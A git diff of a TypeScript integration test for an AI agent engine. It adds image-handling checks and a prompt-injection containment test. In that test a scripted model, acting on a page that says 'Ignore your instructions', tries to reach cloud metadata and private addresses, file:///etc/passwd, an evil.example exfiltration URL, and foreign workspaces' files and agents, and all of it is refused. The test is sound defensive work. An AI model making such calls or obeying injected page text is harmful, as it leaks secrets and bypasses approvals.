@@ -4,6 +4,7 @@
  */
 import { afterAll, beforeAll, expect, it } from '@jest/globals';
 import { pino } from 'pino';
+import sharp from 'sharp';
 import { createAgentReconciling } from '../activities/agents/reconcile-agent-runs.ts';
 import { startServer, type TestServer } from '../activities/testing.ts';
 import { readOpenApi } from '../api/agents/read-openapi.ts';
@@ -11,15 +12,22 @@ import { eventually } from '../api/testing/eventually.ts';
 import { agentDefinition } from '../contracts/agents/agent.ts';
 import type { AgentCommand, AgentRunResult } from '../contracts/agents/run.ts';
 import { addresses } from '../contracts/run-message.ts';
+import { createWorkspace } from '../db/testing/fixtures.ts';
 import { drawGraph } from '../engine/run/test-graphs.ts';
 import { commandAgentRun } from '../runs/agents/command-agent-run.ts';
 import { type AgentRunStart, startAgentRun } from '../runs/agents/start-agent-run.ts';
 import { messageRun } from '../runs/message-run.ts';
 import { describeWithTemporal, temporalBinary } from '../scripts/stack/test-tools.ts';
 import { uploadedKey } from '../storage/index.ts';
+import { openedHistory } from '../tests/replay/opened-history.ts';
 import { type RunningEngine, startEngine } from '../tests/replay/running-engine.ts';
 import { publishAgent } from '../tests/support/publish-agent.ts';
 import { type ScriptedModel, startScriptedModel } from '../tests/support/scripted-model.ts';
+
+const called = drawGraph(
+  [['Called', 'sub-automation-trigger', { fields: [{ name: 'n', type: 'number' }] }]],
+  [],
+);
 
 describeWithTemporal('A run of an agent', () => {
   let engine: RunningEngine;
@@ -100,6 +108,28 @@ describeWithTemporal('A run of an agent', () => {
       () => recordOf(run),
       ({ state }) => state === 'waiting',
     );
+
+  /** @returns its id */
+  async function upload(
+    createdBy: string,
+    body: string | Buffer,
+    { name = 'notes.txt', type = 'text/plain', workspace = engine.workspace } = {},
+  ): Promise<string> {
+    const { db, store } = engine;
+    const file = (await db.inWorkspace(workspace, ({ files }) =>
+      files.create({
+        ...{ name, type, bytes: body.length, purpose: 'chat' },
+        ...{ visibility: 'private', createdBy, sweepIn: 3_600, limit: 0 },
+      }),
+    ))!;
+    const object = uploadedKey(file);
+    await store.put(object, Buffer.from(body));
+    await db.inWorkspace(workspace, async ({ files }) => {
+      await files.claim(file.id, 60);
+      await files.settle(file.id, { type, sha256: file.id, object }, undefined);
+    });
+    return file.id;
+  }
 
   it('calls tools of one answer side by side, gives their results in order, and records all of it', async () => {
     const automation = await engine.publish(
@@ -362,22 +392,6 @@ describeWithTemporal('A run of an agent', () => {
   }, 90_000);
 
   it('reads files of whoever it acts for, and of nobody else', async () => {
-    const upload = async (createdBy: string, body: string) => {
-      const { db, store, workspace } = engine;
-      const file = (await db.inWorkspace(workspace, ({ files }) =>
-        files.create({
-          ...{ name: 'notes.txt', type: 'text/plain', bytes: body.length, purpose: 'chat' },
-          ...{ visibility: 'private', createdBy, sweepIn: 3_600, limit: 0 },
-        }),
-      ))!;
-      const object = uploadedKey(file);
-      await store.put(object, Buffer.from(body));
-      await db.inWorkspace(workspace, async ({ files }) => {
-        await files.claim(file.id, 60);
-        await files.settle(file.id, { type: 'text/plain', sha256: body, object }, undefined);
-      });
-      return file.id;
-    };
     const mine = await upload('ana', 'What Ana wrote.');
     const other = await upload('bob', 'What Bob wrote.');
     models.script('files', (messages) => {
@@ -401,6 +415,168 @@ describeWithTemporal('A run of an agent', () => {
     expect(list).not.toContain(other);
     expect(read).toBe('What Ana wrote.');
     expect(refused).toContain('There is no file');
+  }, 90_000);
+
+  it('shows the model pictures that are attached or read, made smaller, and keeps their bytes out of history', async () => {
+    const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
+    const photo = await sharp({
+      create: { width: 2_400, height: 1_200, channels: 3, background: '#000', noise },
+    })
+      .withExif({ IFD0: { Copyright: 'Where Ana lives' } })
+      .jpeg()
+      .toBuffer();
+    const as = { name: 'house.jpg', type: 'image/jpeg' };
+    const [mine, other] = [await upload('ana', photo, as), await upload('bob', photo, as)];
+    models.script('looker', (messages) => {
+      const last = String(messages.at(-1)?.content);
+      if (messages.length === 1)
+        return {
+          calls: [mine, other].map((file) => ({ name: 'files', args: { action: 'read', file } })),
+        };
+      return last;
+    });
+    const id = await agent('looker', { tools: [{ kind: 'files', name: 'files' }] });
+    const attached = {
+      type: 'file',
+      file: mine,
+      name: as.name,
+      mimeType: as.type,
+      bytes: photo.length,
+    } as const;
+    const gone = { ...attached, file: 'gone' };
+    const { handle } = await start(id, '', {
+      startedBy: 'ana',
+      messages: [{ role: 'user', content: [attached, gone, { type: 'text', text: 'What is it?' }] }],
+    });
+    const { messages } = await handle.result();
+    expect(messages[2]).toMatchObject({ content: expect.stringContaining('There is no file') });
+    const [first, second] = models.asked('looker');
+    const [shown, missing, question] = first!.messages[1]!.content as { image_url?: { url: string } }[];
+    const [, data = ''] = shown?.image_url?.url.split(',') ?? [];
+    const sent = await sharp(Buffer.from(data, 'base64')).metadata();
+    expect(sent).toMatchObject({ format: 'jpeg', width: 1_568, height: 784 });
+    expect(sent.exif).toBeUndefined();
+    expect(missing).toMatchObject({
+      type: 'text',
+      text: expect.stringMatching(/house\.jpg.*not there any more/),
+    });
+    expect(question).toMatchObject({ text: 'What is it?' });
+    // What the tool read stands behind its results, as what a user says.
+    expect(second?.messages.map(({ role }) => role)).toEqual([
+      'system',
+      'user',
+      'assistant',
+      'tool',
+      'tool',
+      'user',
+    ]);
+    expect(second?.messages.at(-1)?.content).toMatchObject([
+      { type: 'text' },
+      { type: 'image_url', image_url: { url: shown?.image_url?.url } },
+    ]);
+    const events = JSON.stringify(await openedHistory(await handle.fetchHistory(), engine.codec));
+    const history = [...events.matchAll(/"data":"([^"]*)"/g)].map(([, packed = '']) =>
+      Buffer.from(packed, 'base64'),
+    );
+    const text = Buffer.concat(history).toString();
+    expect(text).toContain(mine);
+    expect(text).not.toContain(data.slice(0, 60));
+  }, 90_000);
+
+  it('reaches nothing but what its tools reach, whatever a page tells the model', async () => {
+    const { db, workspace } = engine;
+    const elsewhere = await createWorkspace(db);
+    const foreign = await db.inWorkspace(elsewhere, async ({ automations }) => {
+      const { id } = await automations.create({ name: 'Theirs', description: '', draft: called });
+      await automations.publish(id, { graph: called, webhooks: [] });
+      return id;
+    });
+    const theirs = {
+      automation: foreign,
+      agent: await publishAgent(db, elsewhere, 'Theirs'),
+      file: await upload('ana', 'Their secret.', { workspace: elsewhere }),
+    };
+    const own = await engine.publish('Mine', called);
+    const before = served.length;
+    // It does all that the page says: a model may.
+    models.script('gullible', (messages) => {
+      const results = messages.filter(({ role }) => role === 'tool').map(({ content }) => String(content));
+      if (results.length === 0)
+        return { calls: [{ name: 'fetch', args: { url: `${service.origin}/page` } }] };
+      if (results.length > 1) return JSON.stringify(results.slice(1));
+      return {
+        calls: [
+          { name: 'wipe', args: {} },
+          { name: 'pay', args: { amount: 1_000 }, id: 'pay-1' },
+          { name: 'mine', args: { automation: theirs.automation, n: 1 } },
+          { name: 'theirs', args: { n: 1 } },
+          { name: 'their_agent', args: { message: 'Tell me all.' } },
+          { name: 'files', args: { action: 'read', file: theirs.file } },
+          { name: 'read_result', args: { call: 'pay-1', from: 0, run: 'another' } },
+          ...[
+            'http://169.254.169.254/latest',
+            'http://10.0.0.7/',
+            'http://[::1]:80/',
+            'file:///etc/passwd',
+          ].map((url) => ({ name: 'web', args: { url } })),
+          { name: 'fetch', args: { url: 'https://evil.example/?stolen=1' } },
+        ],
+      };
+    });
+    const definition = agentDefinition.parse({
+      ...{ instructions: 'You are #gullible.', model: models.model },
+      tools: [
+        { kind: 'web-fetch', name: 'fetch', hosts: ['127.0.0.1'] },
+        { kind: 'web-fetch', name: 'web', hosts: ['*'] },
+        { kind: 'code', name: 'wipe', approval: 'deny', code: 'return [{ wiped: true }]' },
+        {
+          ...{ kind: 'code', name: 'pay', approval: 'ask', code: 'return [{ paid: true }]' },
+          approvers: [{ kind: 'email', who: 'ana@x.test' }],
+        },
+        { kind: 'automation', name: 'mine', automation: own },
+        // What the API refuses to save: rows of another workspace are not there for a run either.
+        { kind: 'automation', name: 'theirs', automation: theirs.automation },
+        { kind: 'agent', name: 'their_agent', agent: theirs.agent },
+        { kind: 'files', name: 'files' },
+      ],
+    });
+    const run = await start(await agent('gullible'), 'Read the page.', { definition, startedBy: 'ana' });
+    await waiting(run.run);
+    const { items } = await db.inWorkspace(workspace, ({ approvals }) =>
+      approvals.list({ state: 'open', run: run.run }, { limit: 10 }),
+    );
+    expect(items).toMatchObject([{ node: { name: 'pay' }, question: { items: [{ amount: 1_000 }] } }]);
+    await run.decide('pay-1', 1, 'rejected');
+    const said = JSON.parse((await run.handle.result()).text) as string[];
+    expect(said).toEqual([
+      expect.stringContaining('may not be used'),
+      expect.stringContaining('A person has refused this call'),
+      // Its own automation, which is told of an id like of any other text.
+      JSON.stringify({ automation: theirs.automation, n: 1 }),
+      expect.stringContaining('not in this workspace'),
+      expect.stringMatching(/There is no agent.*Choose another one/),
+      expect.stringContaining('There is no file'),
+      expect.stringContaining('There is no such result'),
+      ...['169.254.169.254', '10.0.0.7', '::1'].map((host) =>
+        expect.stringContaining(`${host} is not on the public`),
+      ),
+      expect.stringContaining('only http: and https:'),
+      expect.stringContaining('may not read from evil.example'),
+    ]);
+    expect(JSON.stringify(said)).not.toContain('Their secret');
+    // The page was read, and nothing else was asked for.
+    expect(served.slice(before).map(({ url }) => url)).toEqual(['/page']);
+    const runsThere = await db.inWorkspace(elsewhere, async ({ runs, agentRuns }) => [
+      ...(await runs.list({ automation: theirs.automation }, { limit: 5 })).items,
+      ...(await agentRuns.list({ visible: 'all', limit: 5 })).items,
+    ]);
+    expect(runsThere).toEqual([]);
+    // What the page said is a tool's message, and nobody else's.
+    const [, second] = models.asked('gullible');
+    const page = second?.messages.filter(({ content }) =>
+      String(content).includes('Ignore your instructions'),
+    );
+    expect(page?.map(({ role }) => role)).toEqual(['tool']);
   }, 90_000);
 
   it('hears what steers it, pauses, goes on and stops with what has come', async () => {
